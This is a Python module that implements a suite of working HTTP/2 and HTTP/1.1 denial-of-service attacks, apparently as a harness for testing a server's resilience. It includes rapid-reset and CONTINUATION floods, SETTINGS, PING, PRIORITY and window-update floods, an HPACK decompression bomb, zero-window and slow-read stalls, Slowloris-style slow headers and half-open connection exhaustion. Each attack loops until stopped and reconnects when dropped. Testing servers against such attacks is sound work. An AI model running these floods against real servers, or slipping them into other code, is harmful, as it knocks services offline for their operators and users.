"""Peers that make a server work, wait or remember for nothing. Each attack runs until it is stopped, and opens a
new connection whenever the server has ended the last."""

import contextlib
import socket
import struct
import time

from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, ENDLESS_CALL, EMPTY_MESSAGE, GET, HEADERS,
                  INITIAL_WINDOW_SIZE, OPEN_CALL, PING, PREFACE, PRIORITY, SETTINGS, data,
                  incremental, length, literal, raw, reset, settings, window_update)

PAGE = [*GET[:2], (":path", "/metrics"), GET[3]]


def block(fields):
    """Fields as literals: the same bytes serve on every connection."""
    return b"".join(literal(*field) for field in fields)


def headers(stream, fields, end=False):
    return raw(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block(fields))


class Attacker:
    """One connection after another, each flooded with what `frames` gives for it."""

    def __init__(self, address, stop, reads=True):
        self.address, self.stop, self.reads = address, stop, reads
        self.connections = self.sent = 0

    def flood(self, start, again):
        """Sends `start()` on every new connection, then `again(round)` for ever."""
        while not self.stop.is_set():
            with contextlib.suppress(OSError), self.connect() as connection:
                connection.sendall(PREFACE + settings() + start())
                turn = 0
                while not self.stop.is_set():
                    # Never more than the kernel takes: what matters is what the server does with it.
                    self.sent += connection.send(again(turn))
                    turn += 1
                    if self.reads:
                        self.drop(connection)

    def connect(self):
        self.connections += 1
        connection = socket.create_connection(self.address, timeout=5)
        if not self.reads:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        return connection

    @staticmethod
    def drop(connection):
        """Takes whatever came, without waiting for it."""
        with contextlib.suppress(BlockingIOError):
            while True:
                if not connection.recv(1 << 16, socket.MSG_DONTWAIT):
                    raise ConnectionError("closed")

    def hold(self, count, opening, every=None, seconds=0.2):
        """Keeps `count` connections open, begun with `opening(n)` and, where it is given, fed with `every(turn)`."""
        held, turn = set(), 0
        with contextlib.ExitStack() as stack:
            while not self.stop.is_set():
                while len(held) < count and not self.stop.is_set():
                    try:
                        connection = stack.enter_context(self.connect())
                        connection.sendall(opening(self.connections))
                    except OSError:
                        break
                    connection.setblocking(False)
                    held.add(connection)
                turn += 1
                for connection in list(held):
                    try:
                        if every:
                            connection.send(every(turn))
                        if self.reads:
                            self.drop(connection)
                    except BlockingIOError:
                        pass
                    except OSError:
                        held.discard(connection)
                        connection.close()
                time.sleep(seconds)


def streams(first, count):
    return range(first * 2 + 1, (first + count) * 2 + 1, 2)


def rapid_reset(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        headers(stream, OPEN_CALL) + reset(stream) for stream in streams(turn * 50, 50)))


def made_you_reset(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        headers(stream, OPEN_CALL) + window_update(stream, 0x7fff_ffff) for stream in streams(turn * 50, 50)))


def continuation_flood(attacker):
    attacker.flood(lambda: raw(HEADERS, 0, 1, block(GET)),
                   lambda turn: raw(CONTINUATION, 0, 1, literal("x-flood", "a" * 1000)) * 10)


def empty_frames(attacker):
    attacker.flood(lambda: headers(1, OPEN_CALL), lambda turn: raw(DATA, 0, 1) * 1000)


def settings_flood(attacker):
    attacker.flood(lambda: b"", lambda turn: raw(SETTINGS) * 500)


def ping_flood(attacker):
    attacker.flood(lambda: b"", lambda turn: raw(PING, 0, 0, bytes(8)) * 500)


def priority_flood(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        raw(PRIORITY, 0, stream, struct.pack(">IB", stream - 2 if stream > 1 else 0, 7))
        for stream in streams(turn * 200 % 1_000_000, 200)))


def window_update_flood(attacker):
    attacker.flood(lambda: headers(1, OPEN_CALL), lambda turn: window_update(1, 1) * 1000)


def unknown_frames(attacker):
    attacker.flood(lambda: b"", lambda turn: raw(0xbe, 0, 0) * 1000)


def hpack_bomb(attacker):
    # An entry of 4 000 bytes, then a block of nothing but references to it: 64 MB for each 16 KiB.
    bomb = block(GET) + b"\xbe" * 16_000
    attacker.flood(
        lambda: raw(HEADERS, END_HEADERS | END_STREAM, 1, block(GET) + incremental(b"x-bomb", b"a" * 4_000)),
        lambda turn: raw(HEADERS, END_HEADERS | END_STREAM, turn * 2 + 3, bomb))


def zero_windows(attacker):
    # 10 000 answers that wait for a window.
    opening = PREFACE + settings({INITIAL_WINDOW_SIZE: 0}) + b"".join(
        headers(stream, GET, True) for stream in streams(0, 200))
    attacker.hold(50, lambda n: opening)


def shrinking_windows(attacker):
    def again(turn):
        return b"".join(settings({INITIAL_WINDOW_SIZE: size}) for size in (0, 65_535) * 20)
    attacker.flood(lambda: b"".join(headers(stream, PAGE, True) for stream in streams(0, 200)), again)


def slow_headers(attacker):
    opening = PREFACE + settings() + raw(HEADERS, 0, 1, block(GET))[:30]
    attacker.hold(500, lambda n: opening, lambda turn: b"a", 1)


def slow_http1_headers(attacker):
    attacker.hold(500, lambda n: b"GET / HTTP/1.1\r\nHost: a\r\nx-slow: ", lambda turn: b"a", 1)


def slow_read(attacker):
    # Answers are asked for and never taken from the socket.
    attacker.reads = False
    wide = PREFACE + settings({INITIAL_WINDOW_SIZE: 0x7fff_ffff}) + window_update(0, 0x7fff_0000 - 65_535)
    attacker.hold(50, lambda n: wide + b"".join(headers(stream, PAGE, True) for stream in streams(0, 200)),
                  lambda turn: b"".join(headers(stream, PAGE, True) for stream in streams(200 + turn * 100, 100)))


def stream_overrun(attacker):
    attacker.flood(lambda: b"", lambda turn: b"".join(
        headers(stream, ENDLESS_CALL) + data(stream, EMPTY_MESSAGE, True) for stream in streams(turn * 300, 300)))


def half_open(attacker):
    # 10 000 connections that begin and say no more. A few at a time, so that none is lost to a full backlog.
    attacker.hold(10_000, lambda n: (b"", b"PRI", PREFACE, PREFACE + settings() + raw(HEADERS, 0, 1)[:5])[n % 4],
                  seconds=1)


ATTACKS = [rapid_reset, made_you_reset, continuation_flood, empty_frames, settings_flood, ping_flood, priority_flood,
           window_update_flood, unknown_frames, hpack_bomb, zero_windows, shrinking_windows, slow_headers,
           slow_http1_headers, slow_read, stream_overrun, half_open]


def run(attack, address, stop, report):
    """In a process of its own."""
    import os
    os.nice(19)
    attacker = Attacker(address, stop)
    attack(attacker)
    report.put((attacker.connections, attacker.sent))
